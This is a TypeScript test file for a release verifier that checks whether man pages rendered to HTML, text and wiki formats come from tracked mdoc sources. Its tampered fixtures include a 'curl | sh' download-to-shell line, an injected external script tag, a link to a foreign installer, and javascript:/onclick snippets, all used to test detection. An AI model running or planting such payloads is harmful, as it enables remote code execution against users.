/**
 * A tracked mdoc page formatted into other documentation formats by the release (libarchive's doc/html,
 * doc/text, doc/wiki), end to end with real git, GNU tar and the real formatters: groff -Thtml, nroff | col -b,
 * and a tracked awk converter to wiki pages run here as the release script would. Each has tampered twins
 * (a script tag, a shell pipe, a link to a foreign host, a page of another text) that stay unexplained.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { activeContent, htmlPageText, wikiKey, wikiPageText } from '../../src/classify/doc-formats.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const PAGE = [
  '.Dd March 5, 2024', '.Dt FOO_OPEN 3', '.Os', '.Sh NAME', '.Nm foo_open', '.Nd open a foo archive for reading',
  '.Sh LIBRARY', 'Foo Archive Library (libfoo, -lfoo)', '.Sh SYNOPSIS', '.In foo.h', '.Ft struct foo *', '.Fn foo_open "const char *path"',
  '.Sh DESCRIPTION', 'The', '.Fn foo_open', 'function opens the named archive and returns a handle that later calls',
  'use to read entries one after another until the end of the archive is reached.', '.Sh RETURN VALUES',
  'A null pointer is returned when the file cannot be opened or is not an archive.', '.Sh SEE ALSO', '.Xr foo_close 3 ,', '.Xr tar 1',
  '.Sh HISTORY', 'The library first appeared in version two of the project.', '',
].join('\n');
// The project's converter: section headings, names and cross references; pages outside the project link
// to a man page server.
const MDOC2WIKI = `#!/usr/bin/awk -f
NR == 1 { }
/^\\.Dt/ { print $2 "(" $3 ") manual page"; next }
/^\\.Sh/ { $1 = ""; print "==" $0 " =="; next }
/^\\.Nm/ { print "'''" $2 "'''"; next }
/^\\.Nd/ { $1 = ""; print "-" $0; next }
/^\\.Fn/ { $1 = ""; print "'''" $0 "'''"; next }
/^\\.Xr/ { if ($2 == "tar") print "[http://man.example.org/cgi/man.cgi?query=" $2 "&sektion=" $3 " " $2 "(" $3 ")]"; else print "[[ManPage" $2 $3 "]]"; next }
/^\\.(Dd|Os|In|Ft)/ { next }
{ print }
`;

describe('a tracked man page formatted to HTML, text and wiki pages', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'lib/foo_open.3': PAGE, 'doc/mdoc2wiki.awk': MDOC2WIKI, 'lib/foo.c': 'int foo;\n' };
  repo.commit(tracked, 'foo 1.0', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  writeFileSync(join(root, 'foo_open.3'), PAGE);
  writeFileSync(join(root, 'mdoc2wiki.awk'), MDOC2WIKI);
  const run = (cmd: string) => execFileSync('sh', ['-c', cmd], { cwd: root, encoding: 'utf8' });
  const HTML = run('groff -mdoc -Thtml foo_open.3');
  const TEXT = run('nroff -mdoc foo_open.3 | col -b');
  const WIKI = run('awk -f mdoc2wiki.awk foo_open.3');
  let n = 0;
  const verifyWith = async (docs: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'foo-1.0');
    writeFiles(dir, { ...tracked, ...docs });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'foo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('explains each rendering by its tracked page (and the converter that writes the wiki pages)', async () => {
    expect(HTML).toContain('groff -Thtml');
    const { r, by } = await verifyWith({ 'doc/html/foo_open.3.html': HTML, 'doc/text/foo_open.3.txt': TEXT, 'doc/wiki/ManPageFooOpen3.wiki': WIKI });
    for (const p of ['doc/html/foo_open.3.html', 'doc/text/foo_open.3.txt']) {
      expect(by[p], p).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'lib/foo_open.3' } });
      expect(by[p]!.evidence).not.toHaveProperty('generator');
    }
    expect(by['doc/wiki/ManPageFooOpen3.wiki']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'lib/foo_open.3', generator: 'doc/mdoc2wiki.awk' } });
    for (const f of r.findings) {
      if (f.code !== 'GENERATED_FROM_SOURCE') continue;
      const e = f.evidence as { found: number; total: number };
      expect(e.found / e.total, f.path).toBeGreaterThanOrEqual(0.95);
    }
    expect(r.verdict).not.toBe('different');
  });

  it('tampered twins — a script, a shell pipe, a foreign host, another text — stay high and fail the gate', async () => {
    const { r, by } = await verifyWith({
      'doc/html/foo_open.3.html': HTML.replace('</body>', '<script src="https://cdn.example.net/a.js"></script>\n</body>'),
      'doc/text/foo_open.3.txt': TEXT.replace('RETURN VALUES', 'RETURN VALUES\n     curl -fsSL https://example.org/fix | sh'),
      'doc/wiki/ManPageFooOpen3.wiki': WIKI.replace('== HISTORY ==', '== HISTORY ==\n[https://downloads.example.net/foo.exe Download the installer]'),
      // A page of the same name whose text is not the page's.
      'doc/html/other/foo_open.3.htm': HTML.replace(/opens the named archive[\s\S]*?reached\./, 'uploads your keys to our server, then removes the local copy; run it with privileges of an administrator account always.'),
    });
    for (const p of ['doc/html/foo_open.3.html', 'doc/text/foo_open.3.txt', 'doc/wiki/ManPageFooOpen3.wiki', 'doc/html/other/foo_open.3.htm'])
      expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });

  it('what is more than text: active HTML, a host neither the page nor the converter names, a construct the page lacks', () => {
    const src = `${PAGE}\n${MDOC2WIKI}`;
    expect(activeContent(HTML, htmlPageText(HTML), PAGE, 'x.html', 'html')).toBeUndefined();
    expect(activeContent(WIKI, wikiPageText(WIKI), src, 'x.wiki', 'wiki')).toBeUndefined();
    expect(activeContent(WIKI, wikiPageText(WIKI), PAGE, 'x.wiki', 'wiki')).toBe('link to man.example.org'); // without its converter
    expect(activeContent('<p onclick="x()">a</p>', 'a', PAGE, 'x.html', 'html')).toBe('onclick=');
    expect(activeContent('<a href="javascript:x()">a</a>', 'a', PAGE, 'x.html', 'html')).toMatch(/javascript:$/);
    const pipe = '     curl -fsSL https://man.example.org/fix | sh\n';
    expect(activeContent(pipe, pipe, src, 'x.txt', 'text')).toMatch(/^download-to-shell: /);
  });

  it('text of each format', () => {
    expect(wikiKey('archive_read_new.3')).toBe('ArchiveReadNew3');
    expect(wikiKey('libarchive-formats.5')).toBe('LibarchiveFormats5');
    expect(htmlPageText('<!-- c --><p>a&nbsp;b &mdash; c&#65;&#x42;</p><style>p{}</style>')).toBe('  a b   cAB  ');
    expect(wikiPageText("== NAME ==\n'''foo''' [[ManPageTar5]], [[Other|label]]\n<br>\n").replace(/\s+/g, ' ').trim()).toBe('NAME foo , label');
  });
});
